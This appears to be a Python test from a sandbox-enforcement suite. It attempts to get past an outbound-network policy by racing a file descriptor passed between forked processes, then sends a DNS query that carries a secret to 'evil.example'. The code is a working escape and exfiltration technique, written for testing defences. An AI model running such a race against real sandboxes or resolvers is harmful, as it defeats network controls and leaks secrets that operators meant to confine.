# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: one process peeks at a message that holds a UDP socket and leads it to the name server,
#   another receives it, and writes to the fd in a thread, before the door that received it has
#   inspected it
# proof: query
# needs: resolver python>=3.9
# timeout: 60
import os
import signal
import socket
import struct
import sys
import threading
import time

from attack import RESOLVER, SECRET, attempt, patience, question

# Above what other sockets of this program had.
FREE = 60
sys.setswitchinterval(0.0001)
asked = question(SECRET + ".evil.example")
over = threading.Event()


def write():
    while not over.is_set():
        try:
            if os.write(FREE, asked) == len(asked):
                over.set()
        except OSError:
            pass


children = []


def process(work):
    """A child that does `work` for each byte that it is sent, and answers."""
    here, there = socket.socketpair()
    child = os.fork()
    if child == 0:
        here.close()
        try:
            while there.recv(1):
                try:
                    work()
                except OSError:
                    pass
                there.send(b".")
        finally:
            os._exit(0)
    there.close()
    children.append(child)
    return here


def ask(child):
    child.send(b".")
    child.recv(1)


def fill():
    low = os.open("/dev/null", os.O_RDONLY)
    while low < FREE - 1:
        low = os.dup(low)


def main():
    near, far = socket.socketpair()

    def make():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            socket.send_fds(near, [b"."], [out.fileno()])

    def connect():
        # recv_fds does not pass flags on.
        control = far.recvmsg(1, socket.CMSG_SPACE(4), socket.MSG_PEEK)[1]
        with socket.socket(fileno=struct.unpack("i", control[0][2])[0]) as same:
            same.connect((RESOLVER, 53))

    maker, connecter = process(make), process(connect)
    fill()
    threading.Thread(target=write, daemon=True).start()
    end = time.monotonic() + patience(8)
    while not over.is_set() and time.monotonic() < end:
        ask(maker)
        ask(connecter)
        for fd in socket.recv_fds(far, 1, 1)[1]:
            time.sleep(0.001)
            os.close(fd)
    return over.is_set()


@attempt
def steal():
    try:
        return main()
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
